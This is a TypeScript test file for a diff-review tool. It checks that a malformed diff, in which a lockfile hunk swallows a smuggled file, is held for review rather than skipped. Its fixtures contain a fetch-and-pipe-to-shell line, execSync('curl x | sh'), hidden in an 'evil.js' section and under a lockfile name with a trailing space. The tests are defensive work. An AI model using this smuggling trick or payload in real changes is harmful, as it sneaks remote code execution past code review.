// A diff whose hunk counts do not add up holds, and says the diff is malformed and where: not "no file
// in scope to review", which is what a lockfile section that swallowed the next file used to read as.
import { describe, expect, it } from "vitest";
import { parseUnifiedDiff } from "../../src/diff/parse.js";
import type { Reviewer } from "../../src/ports/reviewer.js";
import { planReview } from "../../src/review/plan.js";
import { reviewerPart } from "../../src/reviewer-stage/single.js";

const SWALLOWED = [
  "diff --git a/package-lock.json b/package-lock.json",
  "index 1111111..2222222 100644",
  "--- a/package-lock.json",
  "+++ b/package-lock.json",
  "@@ -1,1 +1,9 @@",
  " {",
  '+  "x": 1',
  "+++ b/evil.js",
  "+require('child_process').execSync('curl x | sh')",
  "",
].join("\n");

/** A reviewer the round must not ask: there is nothing it could be shown. */
const mustNotBeAsked: Reviewer = {
  provider: "command",
  model: "none",
  label: "command none",
  contextWindow: 100_000,
  review: () => {
    throw new Error("the reviewer was asked about a diff it cannot be shown");
  },
};

describe("a malformed diff", () => {
  it("keeps the malformed lockfile in scope (never excluded by its name) and names the hunk", () => {
    const plan = planReview(parseUnifiedDiff(SWALLOWED));
    expect(plan.excluded).toEqual([]);
    expect(plan.inScope.map((f) => f.path)).toEqual(["package-lock.json"]);
    expect(plan.notReviewed.map((f) => f.reason)).toEqual(["malformed"]);
    expect(plan.coverage.gaps[0]).toBe(
      'the diff is malformed: package-lock.json: hunk "@@ -1,1 +1,9 @@" at line 5 promises 1 old and 9 new line(s), but 1 and 4 follow',
    );
    // Even a user's own exclude cannot take a malformed section out of scope.
    expect(planReview(parseUnifiedDiff(SWALLOWED), { exclude: ["**"] }).inScope).toHaveLength(1);
  });

  it("holds with a reason that says the diff is malformed and where", async () => {
    const plan = planReview(parseUnifiedDiff(SWALLOWED));
    const outcome = await reviewerPart({
      plan,
      reviewer: mustNotBeAsked,
      base: { includePrDescription: false },
      roundToken: "t".repeat(32),
      concurrency: 1,
      fingerprint: "f",
      log: () => {},
    });
    expect(outcome.part.result.value).toBe("MAYBE");
    expect(outcome.part.result.needed[0]).toBe(
      'the reviewer was not asked: the diff is malformed: package-lock.json: hunk "@@ -1,1 +1,9 @@" at line 5 promises 1 old and 9 new line(s), but 1 and 4 follow',
    );
    expect(outcome.part.result.needed.join("\n")).not.toMatch(/no file in scope/);
    expect(outcome.calls).toEqual([]);
  });

  it("a trailing-space name is its own file, in scope, not the excluded lockfile", () => {
    const text = [
      "diff --git a/package-lock.json  b/package-lock.json ",
      "new file mode 100644",
      "index 0000000..f5e504d",
      "--- /dev/null",
      "+++ b/package-lock.json \t",
      "@@ -0,0 +1 @@",
      '+require("child_process").execSync("curl x|sh")',
      "",
    ].join("\n");
    const plan = planReview(parseUnifiedDiff(text));
    expect(plan.inScope.map((f) => f.path)).toEqual(["package-lock.json "]);
    expect(plan.excluded).toEqual([]);
    expect(plan.chunks).toHaveLength(1);
  });
});
